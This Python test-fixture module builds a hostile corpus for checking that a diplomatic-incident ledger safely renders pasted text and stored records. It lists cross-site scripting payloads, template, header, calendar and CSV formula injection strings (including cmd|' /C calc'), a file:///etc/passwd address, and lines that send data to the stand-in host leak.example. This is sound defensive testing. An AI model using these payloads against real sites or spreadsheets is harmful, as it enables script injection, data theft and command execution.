"""A hostile corpus: texts and records as those would write them who want to break a page, a table or a calendar.

``texts`` are what somebody may paste; ``entries`` are what a ledger may hold that was filled by others, with each
payload in every field that is text. Whatever runs sets ``pwned``; whatever leaks asks for ``leak.example``.
"""

import datetime
from collections.abc import Iterator

from legation.incidents import Report
from legation.ledger import Dispute, Document, Entry, StatedStrength
from legation.reference import content_id

MARKUP = {
    "script": "<script>window.pwned=1</script>",
    "breaking out": "</title></textarea></style></mark></svg><img src=x onerror=window.pwned=1>",
    "attribute": '" onmouseover="window.pwned=1" autofocus onfocus=\'window.pwned=1\' x="',
    "single quotes": "' onfocus='window.pwned=1' autofocus x='",
    "svg": "<svg onload=window.pwned=1><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>",
    "frame": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><base href=//leak.example>",
    "style": "<style>@import '//leak.example/x.css';*{background:url(//leak.example/y)}</style>",
    "markdown": "[x](javascript:window.pwned=1) ![x](https://leak.example/x.png)",
    "template": "{{ 7*7 }}{% raw %}{{ config }}${7*7}<%= 7*7 %>",
    "json": "</script><!--<script>\u2028\u2029\\u003c",
    "xml": "]]><x>&evil;<![CDATA[",
    "htmx": "<div hx-get=//leak.example hx-trigger=load data-hx-on:load=window.pwned=1>",
}
LETTERS = {
    "bidi override": "\u202egnirts a\u202c \u202d\u202e",
    "unbalanced isolates": "\u2066\u2067\u2068\u2066\u202b\u202a",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "controls": "\x1b[2J\x07\x08\x0b\x0c\x7f\x85",
    "not characters": "\ufffe\uffff\U0001fffe",
    "zalgo": "Z" + "\u0301\u0316\u0489" * 300,
    "no break": "W" * 20_000,
    "emoji": "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
}
LINES = {
    "header": "x\r\nSet-Cookie: pwned=1\r\n\r\n<script>window.pwned=1</script>",
    "calendar": "x\r\nEND:VEVENT\nBEGIN:VALARM\nATTACH:https://leak.example\r",
    "csv": 'x","y"\n=1+1,"z',
}
FORMULAS = {
    "formula": '=HYPERLINK("https://leak.example";"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}
ADDRESSES = {
    "script address": "javascript:window.pwned=1",
    "data address": "data:text/html,<script>window.pwned=1</script>",
    "spaced script address": " \tjava\nscript:window.pwned=1",
    "attribute in an address": 'https://news.example/" onclick="window.pwned=1',
    "file address": "file:///etc/passwd",
    "user in an address": "https://ministry.example@leak.example/",
}
PAYLOADS = MARKUP | LETTERS | LINES | FORMULAS | ADDRESSES

_TOLD = "Poland expelled {} Russian diplomats on Wednesday"
_DAY = datetime.date(2022, 3, 24)


def texts() -> Iterator[tuple[str, str]]:
    """Texts to paste or to code, by name; each but the last ones tells a measure next to what is hostile."""
    for name, payload in (PAYLOADS | {"nul": "a\0b", "half a character": "a\ud800b\udfff"}).items():
        yield name, f"{payload} {_TOLD.format(45)} {payload}. {payload}"
    yield "many measures", " ".join(f"{_TOLD.format(n)}." for n in range(1, 1200))
    yield "one long line", _TOLD.format(45) + " and so on" * 90_000
    yield "nothing but marks", "<" * 900_000
    yield "nothing but space", " \t\n" * 1000


def raw() -> Iterator[tuple[str, bytes]]:
    """Bytes that are said to be text."""
    told = _TOLD.format(45).encode()
    yield "broken UTF-8", told + b"\xff\xfe\xc3( \xe2\x82"
    yield "UTF-16 cut short", "\ufeff".encode("utf-16-le") + told.decode().encode("utf-16-le") + b"\x00"
    yield "latin", (told.decode() + " à Nîmes, où l’été").encode("cp1252")
    yield "overlong", told + b"\xc0\xaf\xe0\x80\xaf"


def entries() -> Iterator[Entry]:
    """Documents, reports and strengths with one payload each in every field that is text."""
    for name, payload in PAYLOADS.items():
        id_ = content_id("document", hostile=name)
        text = f"{payload} {_TOLD.format(45)} {payload}."
        start = text.index("expelled")
        document = Document(
            id=id_, known=_DAY, coder=payload, ref=payload, lang=payload, published="2022-03-24", title=payload,
            url=payload, source=payload, text=text,
        )  # fmt: skip
        report = Report(
            id=content_id("report", hostile=name), document=id_, type="expel", actor="POL", target="RUS",
            status="done", count=45, about=payload, unit=payload, place=(payload,), date="2022-03-23",
            deadline="2031-03-30", moved_to=payload, by=payload, reason=payload, note=payload, known=_DAY,
            source=payload, words=(payload,), spans=((0, start + 20), (start, len(text) + 9)), rule=payload,
        )  # fmt: skip
        strength = StatedStrength(
            id=content_id("strength", hostile=name), document=id_, sending="RUS", receiving="POL",
            category="diplomats", count=90, about="exact", as_of="2022-03", scope=payload, by=payload, known=_DAY,
            source=payload, words=(payload,),
        )  # fmt: skip
        yield Entry(document, [report], [strength])


def disputes() -> Iterator[Dispute]:
    """Contradictions that somebody noted, one for each payload."""
    for name, payload in PAYLOADS.items():
        yield Dispute(
            id=content_id("dispute", hostile=name), pair="POL-RUS", about=payload, known=_DAY,
            versions=((payload, payload), ("other", payload)),
        )  # fmt: skip
